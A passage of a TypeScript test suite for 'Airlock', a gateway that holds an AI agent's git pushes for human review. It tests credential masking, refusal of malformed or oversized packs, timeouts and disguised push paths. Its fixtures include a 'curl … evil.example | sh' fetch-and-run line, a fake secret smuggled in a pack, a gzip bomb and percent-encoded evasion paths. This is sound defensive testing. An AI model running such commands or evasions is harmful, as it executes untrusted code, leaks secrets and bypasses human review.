  const h = await heldPush(w, ['origin', 'main'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  assert.equal((await gs2.refs('nocred'))['refs/heads/main'], oid);

  // The agent's own (wrong) Authorization — in the URL and as an explicit header — is dropped for Airlock's.
  await runGitOk(['remote', 'set-url', 'origin', `https://evil:wrong@${authority}/nocred.git`], { cwd: w.work, env: w.env });
  await runGitOk(['config', 'http.extraHeader', `Authorization: Basic ${Buffer.from('evil:wrong').toString('base64')}`], { cwd: w.work, env: w.env });
  const oid2 = await commit(w, { 'y.txt': 'y\n' }, 'second change');
  const h2 = await heldPush(w, ['origin', 'main'], approve());
  assert.equal(h2.res.code, 0, h2.res.stderr);
  assert.equal((await gs2.refs('nocred'))['refs/heads/main'], oid2);
  assert.equal(h2.review.upstreamStatus, 200);
});

test('the default HTTPS port, as with github.com: git clones, fetches and pushes https://localhost/… (Host without a port)', async (t) => {
  // Every other test uses a random port, so every Host header carries one. Real remotes are on 443.
  let gs443: GitServer;
  try {
    gs443 = await startGitServer({ pki, auth: { username: 'dana', password: 'port-443-s3cret' }, port: 443, urlHost: 'localhost' });
  } catch (e) {
    t.skip(`cannot listen on 127.0.0.1:443 here (${(e as NodeJS.ErrnoException).code ?? (e as Error).message}); CI runs as root and can`);
    return;
  }
  cleanups.push(() => gs443.close());
  await al.service.credentials.set('localhost', 'port-443-s3cret', { username: 'dana' }); // keyed by the bare host, as for github.com
  const w = await freshWork('port443', gs443);
  assert.equal(w.repo.url, 'https://localhost/port443.git');

  const clone = await runGit(['clone', '-q', w.repo.url, join(w.home, 'c')], { env: w.env, timeoutMs: 30_000 });
  assert.equal(clone.code, 0, clone.stderr);
  const oid = await commit(w, { 'p.txt': 'to the default port\n' }, 'default port');
  const h = await heldPush(w, ['origin', 'main'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  assert.equal((await gs443.refs('port443'))['refs/heads/main'], oid);
  assert.equal(h.review.host, 'localhost');
  assert.equal(h.review.upstreamStatus, 200);
  const posts = receivePackPosts(gs443, 'port443');
  assert.equal(posts.length, 1);
  assert.equal(posts[0]!.headers.host, 'localhost');
  const kinds = al.service.store.exchanges.list({ host: 'localhost' }).filter((x) => x.port === 443).map((x) => `${x.kind} ${x.status}`);
  assert.ok(kinds.includes('git-fetch 200') && kinds.includes('git-push 200'), kinds.join(', '));
});

test('credential masking: the agent never sees the stored secret echoed back by upstream', async () => {
  const up: Upstream = await startUpstream({ pki });
  cleanups.push(() => up.close());
  const secret = `tok-${randomBytes(12).toString('hex')}`;
  await al.service.credentials.set(`127.0.0.1:${up.port}`, secret, { username: 'bob' });
  const basic = Buffer.from(`bob:${secret}`).toString('base64');
  const home = await makeTempDir('airlock-hold-mask-');
  cleanups.push(() => removeDir(home));
  const r = await runCommand('curl', ['-sS', '--max-time', '20', '-x', al.proxyUrl, '--proxy-user', `bot:${agentToken}`, '--cacert', al.caPath,
    '-H', 'Authorization: Bearer the-agents-own-token', '-D', '-', `${up.url}/echo-auth`], { env: gitEnvIsolated(home), timeoutMs: 30_000 });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^HTTP\/1\.1 200/);
  assert.ok(!r.stdout.includes(secret), 'the secret reached the agent');
  assert.ok(!r.stdout.includes(basic), 'the Basic value reached the agent');
  assert.ok(r.stdout.includes(`authorization: ${'*'.repeat(`Basic ${basic}`.length)}`), r.stdout);
  const last = up.requests.filter((x) => x.url === '/echo-auth').at(-1)!;
  assert.equal(last.headers.authorization, `Basic ${basic}`, 'upstream got Airlock\'s credential, not the agent\'s');
});

test('credential masking: the local record never holds a credential set while running',
  async () => {
    const up: Upstream = await startUpstream({ pki });
    cleanups.push(() => up.close());
    const home = await makeTempDir('airlock-hold-mask2-');
    cleanups.push(() => removeDir(home));
    // The window is up to 2 s after each change, so try a few fresh secrets: any one stored in plaintext is the bug.
    for (let attempt = 0; attempt < 3; attempt++) {
      const secret = `tok-${randomBytes(12).toString('hex')}`;
      await al.service.credentials.set(`127.0.0.1:${up.port}`, secret, { username: 'bob' });
      const basic = Buffer.from(`bob:${secret}`).toString('base64');
      const r = await runCommand('curl', ['-sS', '--max-time', '20', '-x', al.proxyUrl, '--proxy-user', `bot:${agentToken}`, '--cacert', al.caPath,
        `${up.url}/echo-auth?attempt=${attempt}`], { env: gitEnvIsolated(home), timeoutMs: 30_000 });
      assert.equal(r.code, 0, r.stderr);
      let rec = null;
      for (let i = 0; i < 50 && !rec; i++) {
        const v = al.service.store.exchanges.list({ limit: 500 }).find((x) => x.port === up.port && x.path === `/echo-auth?attempt=${attempt}`);
        if (v) rec = al.service.store.exchanges.get(v.id);
        else await new Promise((res) => setTimeout(res, 50));
      }
      assert.ok(rec, 'exchange recorded');
      const stored = rec.responseBody?.toString('latin1') ?? '';
      assert.ok(stored.includes('authorization: '), stored);
      assert.ok(!stored.includes(basic), `attempt ${attempt}: the recorded response body holds the Basic credential: ${stored}`);
    }
  });

test('credential masking: an upstream that quotes the credential in its refusal of an approved push is masked for git and the audit log', async () => {
  // A front for the git server that refuses the forwarded push, quoting the Authorization it got (as some error pages do).
  const sockets = new Set<Socket>();
  const front = https.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, (req, res) => {
    if (req.method === 'POST' && /git-receive-pack$/.test(req.url ?? '')) {
      req.resume();
      res.writeHead(403, { 'content-type': 'text/plain' });
      return void res.end(`Forbidden: token ${req.headers.authorization} lacks the workflow scope\n`);
    }
    const up = https.request({ host: '127.0.0.1', port: gs.port, method: req.method, path: req.url, headers: { ...req.headers, host: `127.0.0.1:${gs.port}` }, ca: pki.caPem, agent: false }, (upRes) => {
      res.writeHead(upRes.statusCode ?? 502, upRes.headers);
      upRes.pipe(res);
    });
    up.on('error', () => res.destroy());
    req.pipe(up);
  });
  front.on('connection', (s: Socket) => { sockets.add(s); s.once('close', () => sockets.delete(s)); });
  await new Promise<void>((r) => front.listen(0, '127.0.0.1', () => r()));
  cleanups.push(() => new Promise<void>((r) => { front.close(() => r()); for (const s of sockets) s.destroy(); }));
  const port = (front.address() as { port: number }).port;
  await al.service.credentials.set(`127.0.0.1:${port}`, PASSWORD, { username: USER });
  cleanups.push(async () => { await al.service.credentials.remove(`127.0.0.1:${port}`); });
  const w = await freshWork('refused-quoting');
  await runGitOk(['remote', 'set-url', 'origin', `https://127.0.0.1:${port}/refused-quoting.git`], { cwd: w.work, env: w.env });
  await commit(w, { 'a.txt': 'a\n' }, 'a change the upstream refuses');
  const { res, review } = await heldPush(w, ['origin', 'main'], approve());
  const basic = Buffer.from(`${USER}:${PASSWORD}`).toString('base64');
  assert.notEqual(res.code, 0);
  assert.match(res.stderr, /\[remote rejected\] main -> main \(upstream answered HTTP 403: Forbidden: token \*+ lacks the workflow scope\)/, res.stderr);
  assert.ok(!res.stderr.includes(basic) && !res.stderr.includes(PASSWORD), res.stderr);
  const forwarded = al.service.store.audit.list().filter((e) => e.action === 'review.forwarded' && e.subject === review.id);
  assert.equal(forwarded.length, 1);
  const text = JSON.stringify(forwarded);
  assert.match(text, /upstream answered HTTP 403/);
  assert.ok(!text.includes(basic) && !text.includes(PASSWORD), text);
});

// ---------------------------------------------------------------- malformed and exact bodies

test('malformed receive-pack bodies are refused with a clear answer; nothing is reviewed or forwarded', async () => {
  const w = await freshWork('malformed');
  const oldOid = await revParse(w, 'HEAD');
  const newOid = await commit(w, { 'm.txt': 'malformed test\n'.repeat(200) }, 'for a pack');
  const { commands, pack } = await buildPushBody(w, oldOid, newOid);
  // A pack above the spool threshold: its checksum is not checked while parsing, index-pack must catch it.
  const bigOid = await commit(w, { 'big.bin': randomBytes(600 * 1024) }, 'big pack');
  const big = await buildPushBody(w, oldOid, bigOid);
  const url = `${w.repo.url}/git-receive-pack`;
  // Deny anything that does get held, so a wrong result fails fast instead of hanging.
  let stop = false;
  const held: string[] = [];
  const watcher = (async () => {
    while (!stop) {
      for (const r of reviewsOf(al, 'malformed')) {
        if (r.state === 'pending') {
          held.push(r.id);
          try { await al.service.denyReview({ id: r.id, reason: 'test watcher' }); } catch { /* raced */ }
        }
      }
      await new Promise((res) => setTimeout(res, 50));
    }
  })();
  try {
    const cases: Array<[string, Buffer]> = [
      ['garbage pkt-lines', Buffer.from('this is not a pkt-line stream at all\n')],
      ['bad pkt length', Buffer.from('zzzz0000PACK')],
      ['command section without flush', pkt(`${oldOid} ${newOid} refs/heads/main\0report-status\n`)],
      ['valid commands + truncated pack', Buffer.concat([commands, pack.subarray(0, Math.floor(pack.length / 2))])],
      ['valid commands + corrupted pack', Buffer.concat([commands, (() => { const p = Buffer.from(pack); p[Math.floor(p.length / 2)]! ^= 0xff; return p; })()])],
      ['valid commands + truncated spooled pack', Buffer.concat([big.commands, big.pack.subarray(0, Math.floor(big.pack.length * 0.8))])],
      // A valid header and checksum around contents that do not inflate (bytes an agent wants out).
      ['valid commands + a pack with a valid checksum that does not index', Buffer.concat([commands, (() => {
        const body = Buffer.concat([Buffer.from('PACK\0\0\0\x02\0\0\0\x01', 'latin1'), Buffer.from([0xff, 0xff, 0xff, 0xff]), Buffer.from('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n'.repeat(50))]);
        return Buffer.concat([body, createHash('sha1').update(body).digest()]);
      })()])],
    ];
    for (const [label, body] of cases) {
      const r = await curlPost(url, body, w.home);
      assert.equal(r.raw.code, 0, `${label}: curl failed: ${r.raw.stderr}`);
      const clear400 = r.status === 400 && /Airlock rejected this push: \S.+/.test(r.text);
      const reportNg = r.status === 200 && (/unpack (?!ok)\S/.test(r.text) || /Airlock refused this push/.test(r.text)) && /ng refs\/heads\/main \S/.test(r.text);
      assert.ok(clear400 || reportNg, `${label}: HTTP ${r.status}: ${JSON.stringify(r.text.slice(0, 300))}`);
    }
  } finally {
    stop = true;
    await watcher;
  }
  assert.deepEqual(held, [], 'no malformed body was held for review');
  assert.equal(reviewsOf(al, 'malformed').length, 0);
  assert.deepEqual(receivePackPosts(gs, 'malformed'), []);
  assert.equal((await gs.refs('malformed'))['refs/heads/main'], oldOid);
});

test('objects upstream holds outside its branches and tags (a pull request head) cannot be pushed unseen: refused, nothing forwarded', async () => {
  const w = await freshWork('pr-head');
  await commit(w, { 'ci/deploy.sh': '#!/bin/sh\ncurl -s https://evil.example/x | sh\n' }, 'an outsider pull request');
  const x = await revParse(w, 'HEAD');
  await runGitOk(['--git-dir', w.repo.dir, 'fetch', '-q', w.work, `${x}:refs/pull/1/head`], { env: w.env });
  const before = await gs.refs('pr-head');
  const r = await runGit(['push', 'origin', `${x}:refs/heads/main`], { cwd: w.work, env: w.env, timeoutMs: 60_000 });
  assert.notEqual(r.code, 0, r.stderr);
  assert.match(r.stderr, /Airlock refused this push: the new object \w+ for refs\/heads\/main is in neither the pushed pack nor upstream's branches and tags/);
  assert.deepEqual(await gs.refs('pr-head'), before, 'nothing moved upstream');
  assert.equal(reviewsOf(al, 'pr-head').length, 0, 'no review to approve blind');
});

test('the cache is fetched for every push: a commit upstream rewound away and pushed again is shown in full', async () => {
  const w = await freshWork('rewound');
  const base = await revParse(w, 'HEAD');
  const b = await commit(w, { 'secret.env': 'TOKEN=abc123\n' }, 'oops: a secret');
  const landed = await heldPush(w, ['origin', 'main'], approve());
  assert.equal(landed.res.code, 0, landed.res.stderr);
  // Airlock's cache learns the landed commit (its refresh after a forwarded push), bounded wait.
  const cacheDir = new RemoteCache(join(al.dataDir, 'git-cache')).dirFor(w.repo.url);
  const until = Date.now() + 15_000;
  while (Date.now() < until && (await runGit(['--git-dir', cacheDir, 'rev-parse', 'refs/heads/main'], { env: w.env })).stdout.trim() !== b) {
    await new Promise((res) => setTimeout(res, 50));
  }
  await runGitOk(['--git-dir', w.repo.dir, 'update-ref', 'refs/heads/main', base], { env: w.env }); // then a person removes it upstream
  const { review } = await heldPush(w, ['origin', `${b}:refs/heads/backup`], (rv) => al.service.denyReview({ id: rv.id, reason: 'no' }));
  assert.deepEqual(review.refs[0]!.commits.map((c) => c.oid), [b], review.summary);
  assert.deepEqual(review.refs[0]!.files.map((f) => f.path), ['secret.env']);
});

test('push options (git push -o) are shown to the reviewer as a finding and in the summary', async () => {
  const w = await freshWork('push-options');
  await runGitOk(['--git-dir', w.repo.dir, 'config', 'receive.advertisePushOptions', 'true'], { env: w.env }); // as GitLab does
  await commit(w, { 'f.txt': 'f\n' }, 'with options');
  const { review } = await heldPush(w, ['-o', 'merge_request.create', '-o', 'ci.skip', 'origin', 'main'], (rv) => al.service.denyReview({ id: rv.id, reason: 'no' }));
  const f = review.findings.find((x) => x.rule === 'push-options');
  assert.ok(f, JSON.stringify(review.findings));
  assert.match(f.message, /"merge_request\.create", "ci\.skip"/);
  assert.match(review.summary, /push options: merge_request\.create, ci\.skip$/);
});

test('gzip-encoded pushes: one is held with its diff; a gzip bomb is refused as too large without inflating it in memory', async (t) => {
  const small = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, maxPushBytes: 8 * 1024 * 1024 } });
  t.after(() => small.close());
  await small.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  const token = await small.addAgent('bot');
  const w = await freshWork('gzip-push', gs, small, token);
  const oldOid = await revParse(w, 'HEAD');
  const newOid = await commit(w, { 'z.txt': 'zipped\n' }, 'a gzip-encoded push');
  const { commands, pack } = await buildPushBody(w, oldOid, newOid);
  const { gzipSync } = await import('node:zlib');
  const post = async (body: Buffer) => {
    const file = join(w.home, `gz-${randomBytes(4).toString('hex')}.bin`);
    writeFileSync(file, body);
    return runCommand('curl', ['-sS', '--max-time', '30', '-x', small.proxyUrl, '--proxy-user', `bot:${token}`, '--cacert', small.caPath,
      '-H', 'Content-Type: application/x-git-receive-pack-request', '-H', 'Content-Encoding: gzip', '--data-binary', `@${file}`,
      '-w', '\n%{http_code}', `${w.repo.url}/git-receive-pack`], { env: gitEnvIsolated(w.home), timeoutMs: 40_000 });
  };
  // 64 MiB of zeros in ~64 KiB: inflates past this gateway's 8 MiB push limit.
  const bomb = await post(gzipSync(Buffer.concat([commands, Buffer.alloc(64 * 1024 * 1024)])));
  // Answered as git reads it: the ref refused with the reason.
  assert.match(bomb.stdout, /unpack push too large\n.*ng refs\/heads\/main Airlock rejected this push: the push is larger than the 8 MiB limit \(maxPushBytes\)/, bomb.stdout.slice(-300));
  // A well-formed one is held like any push (denied here).
  const known = new Set(reviewsOf(small, 'gzip-push').map((r) => r.id));
  const held = post(gzipSync(Buffer.concat([commands, pack])));
  const review = await waitForReview(small, 'gzip-push', known, () => null);
  assert.deepEqual(review.refs[0]!.files.map((f) => f.path), ['z.txt']);
  await small.service.denyReview({ id: review.id, reason: 'test' });
  await held;
  assert.deepEqual(receivePackPosts(gs, 'gzip-push'), []);
});

test('a review that cannot be written: the push is refused with the reason (git says so), nothing forwarded', async (t) => {
  let db: { exec(sql: string): unknown } | null = null;
  const gw = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null }, testStoreConnection: (c) => { db = c as unknown as { exec(sql: string): unknown }; } });
  t.after(() => gw.close());
  await gw.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  const token = await gw.addAgent('bot');
  const w = await freshWork('no-review', gs, gw, token);
  await commit(w, { 'n.txt': 'no review\n' }, 'c');
  db!.exec("CREATE TRIGGER no_reviews BEFORE INSERT ON reviews BEGIN SELECT RAISE(FAIL, 'simulated: disk I/O error'); END;");
  const res = await runGit(['push', 'origin', 'main'], { cwd: w.work, env: w.env, timeoutMs: 60_000 });
  db!.exec('DROP TRIGGER no_reviews');
  assert.notEqual(res.code, 0);
  assert.match(res.stderr, /\[remote rejected\] main -> main \(Airlock could not record the review of this push \(.*simulated: disk I\/O error.*\); nothing was forwarded\)/, res.stderr);
  assert.deepEqual(receivePackPosts(gs, 'no-review'), []);
});

test('a gateway stopped while a push is held rejects it as "interrupted: Airlock shut down" (git says so, the record too)', async (t) => {
  const gw = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null } });
  let closed = false;
  t.after(() => (closed ? undefined : gw.close()));
  await gw.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  const token = await gw.addAgent('bot');
  const w = await freshWork('shutdown', gs, gw, token);
  await commit(w, { 's.txt': 'held at shutdown\n' }, 'held');
  let done: RunResult | null = null;
  const push = runGit(['push', 'origin', 'main'], { cwd: w.work, env: w.env, timeoutMs: 60_000 }).then((r) => (done = r));
  const review = await waitForReview(gw, 'shutdown', new Set(), () => done);
  const dataDir = gw.dataDir;
  await gw.service.close();
  const res = await push;
  assert.notEqual(res.code, 0);
  assert.match(res.stderr, /\[remote rejected\] main -> main \(interrupted: Airlock shut down\)/, res.stderr);
  const { openStore } = await import('../../main/store');
  const store = openStore(join(dataDir, 'airlock.db'));
  try {
    const r = store.reviews.get(review.id)!;
    assert.equal(r.state, 'interrupted');
    assert.equal(r.reason, 'Airlock shut down');
  } finally {
    store.close();
  }
  closed = true;
  await gw.close();
  assert.deepEqual(receivePackPosts(gs, 'shutdown'), []);
});

test('an agent with maxPushesPerAgent pushes held gets the next one refused (429) until a person decides', async (t) => {
  const one = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, maxPushesPerAgent: 1 } });
  t.after(() => one.close());
  await one.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  const token = await one.addAgent('bot');
  const a = await freshWork('busy-a', gs, one, token);
  const b = await freshWork('busy-b', gs, one, token);
  await commit(a, { 'a.txt': 'a\n' }, 'first');
  await commit(b, { 'b.txt': 'b\n' }, 'second');
  let firstDone: RunResult | null = null;
  const first = runGit(['push', 'origin', 'main'], { cwd: a.work, env: a.env, timeoutMs: 60_000 }).then((r) => (firstDone = r));
  const review = await waitForReview(one, 'busy-a', new Set(), () => firstDone);
  const second = await runGit(['push', 'origin', 'main'], { cwd: b.work, env: b.env, timeoutMs: 60_000 });
  assert.notEqual(second.code, 0);
  assert.match(second.stderr, /agent bot already has 1 pushes held for review or being analysed/);
  assert.equal(reviewsOf(one, 'busy-b').length, 0);
  await one.service.denyReview({ id: review.id, reason: 'test' });
  await first;
  // Decided: the next push is held again.
  let againDone: RunResult | null = null;
  const again = runGit(['push', 'origin', 'main'], { cwd: b.work, env: b.env, timeoutMs: 60_000 }).then((r) => (againDone = r));
  const r2 = await waitForReview(one, 'busy-b', new Set(), () => againDone);
  await one.service.denyReview({ id: r2.id, reason: 'test' });
  await again;
});

test('a push whose upload stops is given up after clientBodyIdleTimeoutMs (408), freeing its slot; a slow but steady upload is not', async (t) => {
  const one = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, maxPushesPerAgent: 1, clientBodyIdleTimeoutMs: 1000 } });
  t.after(() => one.close());
  await one.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  const token = await one.addAgent('bot');
  const auth = one.basic('bot', token);
  const caPem = readFileSync(one.caPath, 'utf8');
  const w = await freshWork('stalled', gs, one, token);
  const oldOid = await revParse(w, 'HEAD');
  const newOid = await commit(w, { 's.txt': 'stalled upload\n' }, 'sent slowly');
  const { commands, pack } = await buildPushBody(w, oldOid, newOid);
  const body = Buffer.concat([commands, pack]);
  const head = (length: number) => `POST /stalled.git/git-receive-pack HTTP/1.1\r\nHost: 127.0.0.1:${gs.port}\r\n`
    + `Content-Type: application/x-git-receive-pack-request\r\nAccept: application/x-git-receive-pack-result\r\nContent-Length: ${length}\r\n\r\n`;

  // Half the body, then silence: the agent's one push slot would be taken for ever.
  const sock = await tlsTunnel(one.proxyPort, '127.0.0.1', gs.port, auth, caPem);
  t.after(() => sock.destroy());
  const started = Date.now();
  const answer = readResponse(sock, 10_000);
  sock.write(head(body.length));
  sock.write(body.subarray(0, Math.floor(body.length / 2)));
  const res = await answer;
  assert.equal(res.timedOut, false, 'no answer within 10 s');
  assert.equal(res.status, 408, res.raw);
  assert.equal(res.headers['x-airlock-error'], 'body-timeout');
  assert.match(res.body.toString(), /its body stopped arriving \(nothing for 1 s; Airlock's clientBodyIdleTimeoutMs setting\)/);
  const closed = res.closed || await new Promise<boolean>((r) => { sock.once('close', () => r(true)); setTimeout(() => r(false), 3000).unref(); });
  assert.ok(closed, 'the connection is closed after the 408');
  assert.ok(Date.now() - started >= 900, `gave up after ${Date.now() - started} ms, before the idle time`);
  assert.equal(reviewsOf(one, 'stalled').length, 0);
  assert.deepEqual(receivePackPosts(gs, 'stalled'), []);

  // The slot is free again, and an upload that keeps coming (a chunk every 150 ms for ~3 s, three
  // times the idle time in all) is read whole and held for review.
  const slow = await tlsTunnel(one.proxyPort, '127.0.0.1', gs.port, auth, caPem);
  t.after(() => slow.destroy());
  const slowAnswer = readResponse(slow, 60_000);
  slow.write(head(body.length));
  const parts = 20;
  const step = Math.ceil(body.length / parts);
  for (let i = 0; i < parts; i++) {
    await new Promise((r) => setTimeout(r, 150));
    slow.write(body.subarray(i * step, (i + 1) * step));
  }
  const until = Date.now() + 30_000;
  let review: ReviewView | undefined;
  while (!review && Date.now() < until) {
    review = reviewsOf(one, 'stalled')[0];
    if (!review) await new Promise((r) => setTimeout(r, 50));
  }
  if (!review) assert.fail(`the slow push was not held for review: ${(await slowAnswer).raw}`);
  assert.deepEqual(review.refs.map((r) => [r.ref, r.newOid]), [['refs/heads/main', newOid]]);
  await one.service.denyReview({ id: review.id, reason: 'test' });
  const slowRes = await slowAnswer;
  assert.equal(slowRes.status, 200, slowRes.raw);
  assert.match(slowRes.raw, /denied by/);
});

test('while the data dir\'s disk has less free space than pushMinFreeBytes, pushes are refused with the reason', async (t) => {
  const { statfsSync } = await import('node:fs');
  const st = statfsSync(al.dataDir);
  const free = st.bavail * st.bsize;
  const full = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, pushMinFreeBytes: free + 1024 ** 4 } });
  t.after(() => full.close());
  await full.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  const token = await full.addAgent('bot');
  const w = await freshWork('disk-full', gs, full, token);
  await commit(w, { 'd.txt': 'd\n' }, 'on a full disk');
  const r = await runGit(['push', 'origin', 'main'], { cwd: w.work, env: w.env, timeoutMs: 60_000 });
  assert.notEqual(r.code, 0);
  assert.match(r.stderr, /Airlock rejected this push: the disk that holds Airlock's data has \d+ MiB free, under pushMinFreeBytes/);
  assert.equal(reviewsOf(full, 'disk-full').length, 0);
});

test('a push to a plain-http server (a local Gitea, say) is held with its full diff', async (t) => {
  const plainGs = await startGitServer({ pki, tls: false });
  t.after(() => plainGs.close());
  const w = await freshWork('plainhttp', plainGs);
  w.env.http_proxy = w.env.HTTPS_PROXY;
  const oid = await commit(w, { 'README.md': 'hello\nchanged over plain http\n' }, 'plain http change');
  const { res, review } = await heldPush(w, ['origin', 'main'], approve());
  assert.equal(res.code, 0, res.stderr);
  assert.doesNotMatch(review.summary, /could not be fetched/, review.summary);
  const readme = review.refs[0]!.files.find((f) => f.path === 'README.md');
  assert.equal(readme?.status, 'modified', JSON.stringify(review.refs[0]!.files));
  assert.match(readme!.patch, /^\+changed over plain http$/m);
  assert.equal((await plainGs.refs('plainhttp'))['refs/heads/main'], oid);
});

test('a pack sent by hand to a disguised receive-pack path (percent-encoded) is held like any push', async () => {
  // The server routes on the decoded path (CGI's PATH_INFO), so these reach receive-pack there.
  const w = await freshWork('disguised');
  const oldOid = await revParse(w, 'HEAD');
  const newOid = await commit(w, { 'd.txt': 'disguised\n' }, 'sent by hand');
  const { commands, pack } = await buildPushBody(w, oldOid, newOid);
  for (const path of ['/disguised.git/git%2Dreceive-pack', '/disguised.git%2Fgit-receive-pack', '/disguised.git/git-receive-pack%2F']) {
    const known = new Set(reviewsOf(al, 'disguised').map((r) => r.id));
    let finished: RunResult | null = null;
    const post = curlPost(`${gs.url}${path}`, Buffer.concat([commands, pack]), w.home).then((r) => { finished = r.raw; return r; });
    const review = await waitForReview(al, 'disguised', known, () => finished);
    assert.deepEqual(review.refs.map((r) => [r.ref, r.newOid]), [['refs/heads/main', newOid]], path);
    await al.service.denyReview({ id: review.id, reason: 'not by hand' });
    const r = await post;
    assert.equal(r.status, 200, `${path}: ${r.text}`);
    assert.match(r.text, /ng refs\/heads\/main .*denied/, path);
    assert.equal((await gs.refs('disguised'))['refs/heads/main'], oldOid, `${path} reached the repository`);
  }
});

test('exact bytes: the reviewed bodySha256 is the sha256 of what upstream receives (git and curl pushes)', async () => {
  const front = await startRecordingFront(gs);
  cleanups.push(() => front.close());
  await al.service.credentials.set(`127.0.0.1:${front.port}`, PASSWORD, { username: USER });
  const w = await freshWork('exact');
  await runGitOk(['remote', 'set-url', 'origin', `${front.url}/exact.git`], { cwd: w.work, env: w.env });

  // 1. git (side-band): the bytes upstream got are the reviewed ones.
  const oid1 = await commit(w, { 'e.txt': 'exact 1\n' }, 'exact bytes 1');
  const h = await heldPush(w, ['origin', 'main'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  const got1 = front.bodies.filter((b) => b.method === 'POST' && b.path === '/exact.git/git-receive-pack');
  assert.equal(got1.length, 1);
  assert.equal(got1[0]!.sha256, h.review.bodySha256);
  assert.equal(got1[0]!.bytes, h.review.bodyBytes);
  assert.equal((await gs.refs('exact'))['refs/heads/main'], oid1);

  // 2. A body we built ourselves (report-status, no side-band): same hash at review time and upstream.
  const newOid = await commit(w, { 'e.txt': 'exact 2\n' }, 'exact bytes 2');
  const { commands, pack } = await buildPushBody(w, oid1, newOid);
  const body = Buffer.concat([commands, pack]);
  const known = new Set(reviewsOf(al, 'exact').map((r) => r.id));
  let finished: RunResult | null = null;
  const post = curlPost(`${front.url}/exact.git/git-receive-pack`, body, w.home).then((r) => { finished = r.raw; return r; });
  const review = await waitForReview(al, 'exact', known, () => finished);
  assert.equal(review.bodySha256, sha256(body));
  assert.equal(review.bodyBytes, body.length);
  await al.service.approveReview({ id: review.id });
  const r = await post;
  assert.equal(r.status, 200, r.text);
  assert.match(r.text, /unpack ok/);
  assert.match(r.text, /ok refs\/heads\/main/);
  const got2 = front.bodies.filter((b) => b.method === 'POST' && b.path === '/exact.git/git-receive-pack');
  assert.equal(got2.length, 2);
  assert.equal(got2[1]!.sha256, sha256(body));
  assert.equal((await gs.refs('exact'))['refs/heads/main'], newOid);
  const final = await al.service.getReview({ id: review.id });
  assert.equal(final.state, 'approved');
  assert.equal(final.upstreamStatus, 200);
});
